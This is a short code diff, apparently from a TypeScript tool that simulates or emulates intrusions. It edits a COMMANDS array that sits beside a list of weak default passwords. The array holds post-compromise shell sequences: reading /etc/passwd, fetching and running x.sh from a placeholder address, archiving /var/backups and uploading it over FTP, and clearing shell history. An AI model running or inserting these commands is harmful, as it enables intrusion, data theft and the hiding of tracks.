@@ -12,7 +12,7 @@ const PASSWORDS = ['123456', 'toor', 'changeit', 'summer2026', 'letmein'] as con
 const COMMANDS = [
   ['uname -a', 'id', 'cat /etc/passwd'],
   ['wget http://203.0.113.250/x.sh', 'chmod +x x.sh', './x.sh'],
-  ['ls -la /var/backups', 'tar czf /tmp/b.tgz /var/backups', 'curl -T /tmp/b.tgz ftp://203.0.113.250/'],
+  ['ls -la /var/backups', 'tar czf b.tgz /var/backups', 'curl -T b.tgz ftp://203.0.113.250/'],
   ['crontab -l', 'history -c'],
 ] as const;
 
